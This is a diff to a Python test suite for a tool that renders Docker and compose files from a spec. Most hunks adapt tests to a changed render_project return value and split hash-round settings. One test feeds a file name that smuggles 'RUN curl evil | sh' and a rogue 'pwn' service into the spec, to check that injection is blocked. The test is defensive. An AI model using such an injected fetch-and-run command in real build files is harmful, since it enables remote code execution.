@@ -327,7 +327,7 @@ def test_any_spec_renders_inert_output_or_raises_a_spec_error(data):
     except SpecError as error:
         assert_problems_are_lines(error)
         return
-    assert_inert(spec, render_project(spec, fake_material(spec)))
+    assert_inert(spec, render_project(spec, fake_material(spec)).files)
 
 
 @settings(HYPOTHESIS, max_examples=120)
@@ -338,7 +338,7 @@ def test_the_most_awkward_accepted_values_render_inert(data):
     except SpecError as error:  # rare: e.g. a drawn volume target that is not a clean path
         assert_problems_are_lines(error)
         return
-    assert_inert(spec, render_project(spec, fake_material(spec)))
+    assert_inert(spec, render_project(spec, fake_material(spec)).files)
 
 
 @HYPOTHESIS
@@ -354,14 +354,15 @@ def test_any_text_parses_or_raises_a_spec_error(text):
     except SpecError as error:
         assert_problems_are_lines(error)
         return
-    assert_inert(spec, render_project(spec, fake_material(spec)))
+    assert_inert(spec, render_project(spec, fake_material(spec)).files)
 
 
 @pytest.fixture(scope="module", autouse=True)
 def fast_hashes() -> Iterator[None]:
     """The fewest SHA-512 crypt rounds passlib allows: rendering many specs stays fast."""
     with pytest.MonkeyPatch.context() as patch:
-        patch.setattr("devbox.state.HASH_ROUNDS", 1000)
+        patch.setattr("devbox.state.HASH_ROUNDS_GENERATED", 1000)
+        patch.setattr("devbox.state.HASH_ROUNDS_CHOSEN", 1000)
         yield
 
 
@@ -592,7 +593,7 @@ def test_multi_line_values_are_rejected():
 
 def test_environment_values_come_back_exactly_from_the_compose_file():
     spec, env = nasty_env_spec()
-    files = render_project(spec, fake_material(spec))
+    files = render_project(spec, fake_material(spec)).files
     assert_inert(spec, files)
     compose = yaml.safe_load(next(f.content for f in files if f.path == COMPOSE_FILE))
     assert list(compose["services"]) == ["master", "0x10"]
@@ -611,7 +612,7 @@ def test_environment_values_come_back_exactly_from_the_compose_file():
 )
 def test_random_environment_values_round_trip(env):
     spec = build_spec(spec_data(hosts={"a": {"ssh_port": 1, "environment": env}}), Path("/nonexistent-devbox-dir"))
-    files = render_project(spec, fake_material(spec))
+    files = render_project(spec, fake_material(spec)).files
     assert_inert(spec, files)
     compose = yaml.safe_load(next(f.content for f in files if f.path == COMPOSE_FILE))
     assert unescape(compose["services"]["a"].get("environment", {})) == env
@@ -648,7 +649,7 @@ def test_docker_compose_config_resolves_values_literally(tmp_path):
 def test_spec_file_names_cannot_inject_lines(tmp_path):
     hostile = "devbox\nRUN curl evil | sh\nservices: {pwn: {image: evil}}\n#.yaml"
     spec = build_spec(spec_data(), tmp_path, source=str(tmp_path / hostile))
-    files = {f.path: f.content for f in render_project(spec, fake_material(spec))}
+    files = {f.path: f.content for f in render_project(spec, fake_material(spec)).files}
     assert not any(line.startswith("RUN curl") for line in files["Dockerfile"].split("\n"))
     assert not any(line.startswith(("RUN", "services")) for line in files["entrypoint.sh"].split("\n"))
     assert set(yaml.safe_load(files[COMPOSE_FILE])["services"]) == {"master", "worker"}
